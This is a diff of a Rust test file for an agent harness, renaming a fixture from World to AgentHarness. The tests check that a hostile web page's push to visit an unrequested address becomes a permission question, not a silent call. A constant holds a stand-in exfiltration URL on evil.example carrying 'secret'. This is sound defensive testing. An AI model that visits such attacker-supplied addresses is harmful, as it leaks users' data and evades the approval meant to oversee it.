@@ -14,7 +14,7 @@ use tenon_tools::{CallContext, Connection, ToolSource};
 use url::Url;
 
 use crate::asking::{asked, told};
-use crate::world::{World, ada, outcome};
+use crate::harness::{AgentHarness, ada, outcome};
 
 const GO: &str = "builtin_go";
 const SECRET: &str = "https://evil.example/?q=secret";
@@ -83,14 +83,14 @@ impl ToolSource for Web {
 }
 
 struct Scene {
-    world: World,
+    harness: AgentHarness,
     web: Arc<Web>,
     _connected: Connection,
 }
 
 impl Scene {
     async fn new(scripts: impl IntoIterator<Item = Vec<ScriptStep>>) -> Self {
-        let world = World::new(scripts).await;
+        let harness = AgentHarness::new(scripts).await;
         let info = SourceInfo {
             id: SourceId::new("web"),
             kind: SourceKind::Builtin,
@@ -100,9 +100,9 @@ impl Scene {
         };
         let gone_to = Mutex::default();
         let web = Arc::new(Web { info, gone_to });
-        let connected = world.registry.connect(web.clone()).await.unwrap();
+        let connected = harness.registry.connect(web.clone()).await.unwrap();
         Self {
-            world,
+            harness,
             web,
             _connected: connected,
         }
@@ -110,21 +110,21 @@ impl Scene {
 
     /// Says something; the calls that are asked about meanwhile are refused.
     async fn say(&self, text: &str, questions: usize) -> usize {
-        let world = &self.world;
-        let mut watch = world.agent.feed().watch(&world.chat);
-        world.start(text).await.unwrap();
+        let harness = &self.harness;
+        let mut watch = harness.agent.feed().watch(&harness.chat);
+        harness.start(text).await.unwrap();
         for _ in 0..questions {
             for call in asked(&mut watch, 1).await {
                 self.answer(&call, Verdict::Denied).await;
             }
         }
         assert_eq!(outcome(&mut watch).await, TurnOutcome::Done);
-        let calls = world.store.calls(&world.chat).await.unwrap();
+        let calls = harness.store.calls(&harness.chat).await.unwrap();
         calls.iter().filter(|call| call.verdict.is_some()).count()
     }
 
     async fn answer(&self, call: &CallId, verdict: Verdict) {
-        let agent = &self.world.agent;
+        let agent = &self.harness.agent;
         agent.answer(&ada(), call, verdict).await.unwrap();
     }
 
@@ -152,7 +152,7 @@ async fn what_a_hostile_page_wants_to_be_told_is_a_question_and_not_a_call() {
     let scene = Scene::new(calling(&steps)).await;
     assert_eq!(scene.say("sum up https://a.org/hostile", 1).await, 1);
     assert_eq!(scene.gone_to(), ["https://a.org/hostile"]);
-    assert_eq!(told(&scene.world), [Err(ToolError::refused())]);
+    assert_eq!(told(&scene.harness), [Err(ToolError::refused())]);
 }
 
 #[tokio::test]
@@ -225,16 +225,16 @@ async fn an_address_of_another_branch_is_not_known() {
         go("https://a.org/next"),
     ]));
     let scene = Scene::new(scripts).await;
-    let world = &scene.world;
-    let mut watch = world.agent.feed().watch(&world.chat);
-    let first = world.start("https://a.org/echo").await.unwrap();
+    let harness = &scene.harness;
+    let mut watch = harness.agent.feed().watch(&harness.chat);
+    let first = harness.start("https://a.org/echo").await.unwrap();
     assert_eq!(outcome(&mut watch).await, TurnOutcome::Done);
 
     let beside = tenon_agent::TurnRequest {
         replaces: Some(first),
-        ..world.request("something else")
+        ..harness.request("something else")
     };
-    world.agent.start(beside).await.unwrap();
+    harness.agent.start(beside).await.unwrap();
     for _ in 0..2 {
         let call = asked(&mut watch, 1).await.remove(0);
         scene.answer(&call, Verdict::Denied).await;
@@ -246,9 +246,9 @@ async fn an_address_of_another_branch_is_not_known() {
 #[tokio::test]
 async fn what_somebody_said_about_the_tool_stands() {
     let scene = Scene::new(calling(&[go(SECRET), go(SECRET)])).await;
-    let world = &scene.world;
-    let mut watch = world.agent.feed().watch(&world.chat);
-    world.start("go").await.unwrap();
+    let harness = &scene.harness;
+    let mut watch = harness.agent.feed().watch(&harness.chat);
+    harness.start("go").await.unwrap();
     let call = asked(&mut watch, 1).await.remove(0);
     // Of the tool, so of any address.
     scene.answer(&call, Verdict::Always).await;
@@ -264,7 +264,7 @@ async fn what_somebody_said_about_the_tool_stands() {
             policy: Some(Some(policy)),
         };
         let set = scene
-            .world
+            .harness
             .store
             .set_tools(Layer::Organisation, "", [change]);
         set.await.unwrap();
@@ -279,16 +279,16 @@ async fn where_nobody_can_be_asked_the_refusal_says_what_to_do() {
     let request = tenon_agent::TurnRequest {
         can_ask: false,
         door: tenon_domain::EntryPoint::Shell,
-        ..scene.world.request("go")
+        ..scene.harness.request("go")
     };
-    let mut watch = scene.world.agent.feed().watch(&scene.world.chat);
-    scene.world.agent.start(request).await.unwrap();
+    let mut watch = scene.harness.agent.feed().watch(&scene.harness.chat);
+    scene.harness.agent.start(request).await.unwrap();
     assert_eq!(outcome(&mut watch).await, TurnOutcome::Done);
     let refusal = ToolError::denied(
         "Web/go needs a person's approval for an address that the user did not write and no result \
          showed, and nobody can be asked here. Ask the user to write the address. \
          `--allow builtin_go` or `--yes` would allow it.",
     );
-    assert_eq!(told(&scene.world), [Err(refusal)]);
+    assert_eq!(told(&scene.harness), [Err(refusal)]);
     assert_eq!(scene.gone_to(), [""; 0]);
 }
